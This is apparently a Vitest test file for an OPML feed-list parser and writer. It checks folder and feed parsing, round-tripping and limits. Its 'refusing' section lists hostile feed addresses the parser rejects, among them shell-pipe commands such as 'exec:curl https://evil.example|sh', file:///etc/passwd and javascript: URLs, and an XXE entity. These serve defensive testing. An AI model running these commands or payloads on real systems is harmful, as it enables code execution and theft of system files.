import { describe, expect, it } from 'vitest'
import type { Folder, OpmlOutline } from '../../contract/models.ts'
import { feedAt } from '../testing/trial.ts'
import { outlinesOf, parseOpml, writeOpml, type OpmlContent } from './opml.ts'

const body = (outlines: string) =>
  `<?xml version="1.0"?><opml version="1.1"><head><title>x</title></head><body>${outlines}</body></opml>`
function read(text: string): OpmlContent {
  const result = parseOpml(text)
  if (!result.ok) throw new Error(result.problem.kind)
  return result.value
}
/** [title, url] or [title, [children]]. */
const shape = (outlines: OpmlOutline[]): unknown[] => outlines.map((one) => [one.title, one.url ?? shape(one.children)])

describe('reading', () => {
  it('takes folders, feeds and sites', () => {
    expect(
      read(
        body(
          '<outline text="News"><outline type="rss" text="Paper" title="The Paper" xmlUrl="https://a.example/f" htmlUrl="https://a.example/"/></outline><outline text="B" xmlUrl="http://b.example/f"/>',
        ),
      ),
    ).toEqual({
      outlines: [
        {
          title: 'News',
          url: null,
          siteUrl: null,
          known: false,
          children: [
            {
              title: 'The Paper',
              url: 'https://a.example/f',
              siteUrl: 'https://a.example/',
              known: false,
              children: [],
            },
          ],
        },
        { title: 'B', url: 'http://b.example/f', siteUrl: null, known: false, children: [] },
      ],
      feeds: 2,
      folders: 1,
      refused: [],
    })
  })

  it('takes every spelling found in the wild', () => {
    const { outlines } = read(
      body(`<OUTLINE TEXT="Case" XMLURL="https://a.example/1"/><outline text='Lower' xmlurl='https://a.example/2'/><outline title="Url" type="rss" url="https://a.example/3"/>
      <outline xmlUrl="feed://a.example/4"/><outline text="" title="Bare &amp; &quot;q&quot; &eacute; &#8211;" xmlUrl="https://a.example/5?x=1&y=2&copy=3"></outline>
      <outline text="No scheme" xmlUrl="a.example/6"/><outline text="  many
        lines " xmlUrl=" https://a.example/7 "/><outline text="Bare & ampersand" xmlUrl="feed:https://a.example/8"/>`),
    )
    expect(shape(outlines)).toEqual([
      ['Case', 'https://a.example/1'],
      ['Lower', 'https://a.example/2'],
      ['Url', 'https://a.example/3'],
      ['a.example', 'http://a.example/4'],
      ['Bare & "q" é –', 'https://a.example/5?x=1&y=2&copy=3'],
      ['No scheme', 'http://a.example/6'],
      ['many lines', 'https://a.example/7'],
      ['Bare & ampersand', 'https://a.example/8'],
    ])
  })

  it('makes folders of categories, in a flat list only', () => {
    const { outlines, folders } = read(
      body(
        '<outline text="A" xmlUrl="https://a.example/1" category="/News/World,/x"/><outline text="B" xmlUrl="https://a.example/2" category="/News/World"/><outline text="F"><outline text="C" xmlUrl="https://a.example/3" category="/Other"/></outline>',
      ),
    )
    expect(shape(outlines)).toEqual([
      [
        'News',
        [
          [
            'World',
            [
              ['A', 'https://a.example/1'],
              ['B', 'https://a.example/2'],
            ],
          ],
        ],
      ],
      ['F', [['C', 'https://a.example/3']]],
    ])
    expect(folders).toBe(3)
  })

  it('keeps feeds below a feed, the first of two, and those before a cut', () => {
    expect(
      shape(
        read(
          body(
            '<outline text="A" xmlUrl="https://a.example/1"><outline text="B" xmlUrl="https://a.example/2"/></outline>',
          ),
        ).outlines,
      ),
    ).toEqual([
      ['A', 'https://a.example/1'],
      ['B', 'https://a.example/2'],
    ])
    const twice = read(
      body(
        '<outline text="F"><outline text="A" xmlUrl="https://a.example/1"/></outline><outline text="A" xmlUrl="https://a.example/1#x"/>',
      ),
    )
    expect(twice).toMatchObject({ feeds: 1, refused: [{ text: 'https://a.example/1', why: 'repeated' }] })
    expect(
      read('<opml><body><outline text="F"><outline text="A" xmlUrl="https://a.example/1"/><outline text="B" xmlU')
        .feeds,
    ).toBe(1)
  })

  it('lifts folders deeper than eight into the eighth', () => {
    const deep = `${'<outline text="f">'.repeat(20)}<outline text="A" xmlUrl="https://a.example/1"/>${'</outline>'.repeat(20)}<outline text="B" xmlUrl="https://a.example/2"/>`
    const { outlines, folders } = read(body(deep))
    expect(folders).toBe(8)
    expect(outlines[1]?.title).toBe('B')
  })
})

describe('refusing', () => {
  it.each([
    ['| curl evil', 'command'],
    ['"| sh', 'command'],
    ['exec:/bin/sh', 'command'],
    ['exec:curl https://evil.example|sh', 'command'],
    ['filter:x:https://a.example', 'command'],
    ['query:News:unread = "yes"', 'command'],
    ['file:///etc/passwd', 'scheme'],
    ['javascript:alert(1)', 'scheme'],
    ['JAVA&#10;SCRIPT:alert(1)', 'badAddress'],
    ['data:text/xml,x', 'scheme'],
    ['ftp://a.example/f', 'scheme'],
    ['feed:file:///etc/passwd', 'scheme'],
    ['/relative', 'badAddress'],
    ['http://', 'badAddress'],
  ])('%s as %s, while the others are still offered', (address, why) => {
    const content = read(
      body(
        `<outline text="Bad" xmlUrl="${address.replace(/"/g, '&quot;')}"/><outline text="Good" xmlUrl="https://a.example/f"/>`,
      ),
    )
    expect(content.refused.map((one) => one.why)).toEqual([why])
    expect(shape(content.outlines)).toEqual([['Good', 'https://a.example/f']])
  })

  it('outlines that point at pages or other outlines', () => {
    expect(
      read(
        body(
          '<outline type="link" url="https://a.example/x.opml"/><outline type="include" url="https://a.example/y"/>',
        ),
      ).refused.map((one) => one.why),
    ).toEqual(['notAFeed', 'notAFeed'])
  })

  it.each([
    ['entities', `<!DOCTYPE opml [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>${body('<outline text="&b;"/>')}`],
    ['entities', `<!-- x --><!DOCTYPE opml [ <!entity xxe SYSTEM "file:///etc/passwd"> ]>${body('')}`],
    ['tooLarge', ' '.repeat(30 * 1024 * 1024 + 1)],
    ['tooDeep', body('<outline text="x">'.repeat(60))],
    ['tooMany', body('<outline text="x"/>'.repeat(50_001))],
  ])('%s', (why, text) => {
    expect(parseOpml(text)).toEqual({ ok: false, problem: { kind: 'opmlRefused', why } })
  })

  it('not a harmless document type or comment', () => {
    expect(
      read(
        `<!DOCTYPE opml SYSTEM "opml.dtd">${body('<!-- <!ENTITY x> --><outline text="A" xmlUrl="https://a.example/f"/>')}`,
      ).feeds,
    ).toBe(1)
  })

  it.each(['', 'hello', '<html><body>page</body></html>', '<rss><channel><title>x</title></channel></rss>', '{"a":1}'])(
    'what is no OPML: %s',
    (text) => {
      expect(parseOpml(text)).toEqual({ ok: false, problem: { kind: 'notOpml' } })
    },
  )
})

describe('writing', () => {
  const folder = (id: number, title: string, parentId: number | null, position: number): Folder => ({
    id,
    title,
    parentId,
    position,
  })
  const feed = (id: number, title: string, folderId: number | null, position: number) => ({
    ...feedAt(`https://a.example/${id}?x=1&y="2"`),
    id,
    title,
    folderId,
    position,
    siteUrl: 'https://a.example/',
  })

  it('gives back the same tree when read again', () => {
    const folders = [folder(1, 'News & "more" <b>', null, 1), folder(2, 'World', 1, 0), folder(3, 'Empty', null, 3)]
    const feeds = [
      feed(1, 'Ünï \u0007code 日本', 2, 0),
      feed(2, 'Top', null, 0),
      { ...feed(3, 'x', 1, 1), ownTitle: 'My own' },
      feed(4, 'Last', null, 9),
      feed(5, 'Lost', 77, 10),
    ]
    const outlines = outlinesOf(feeds, folders)
    expect(shape(outlines)).toEqual([
      ['Top', 'https://a.example/2?x=1&y="2"'],
      [
        'News & "more" <b>',
        [
          ['World', [['Ünï \u0007code 日本', 'https://a.example/1?x=1&y="2"']]],
          ['My own', 'https://a.example/3?x=1&y="2"'],
        ],
      ],
      ['Empty', []],
      ['Last', 'https://a.example/4?x=1&y="2"'],
      ['Lost', 'https://a.example/5?x=1&y="2"'],
    ])
    const text = writeOpml(outlines, { title: 'Feeds & more', now: 0 })
    const again = read(text)
    expect(again).toMatchObject({ feeds: 5, folders: 3, refused: [] })
    expect(JSON.stringify(shape(again.outlines))).toBe(
      JSON.stringify(shape(outlines))
        .replace('\\u0007', ' ')
        .replaceAll(/y=\\"2\\"/g, 'y=%222%22')
        .replace('Ünï  code', 'Ünï code'),
    )
    expect(shape(read(writeOpml(again.outlines, { title: '', now: 0 })).outlines)).toEqual(shape(again.outlines))
  })

  it('and reading 5,000 feeds takes well under a second', () => {
    const folders = Array.from({ length: 100 }, (_, index) => folder(index + 1, `Folder ${index}`, null, index))
    const feeds = Array.from({ length: 5000 }, (_, index) => feed(index, `Feed ${index}`, 1 + (index % 100), index))
    const start = process.cpuUsage()
    expect(read(writeOpml(outlinesOf(feeds, folders), { title: 'x', now: 0 })).feeds).toBe(5000)
    expect(process.cpuUsage(start).user / 1000).toBeLessThan(1000)
  })
})
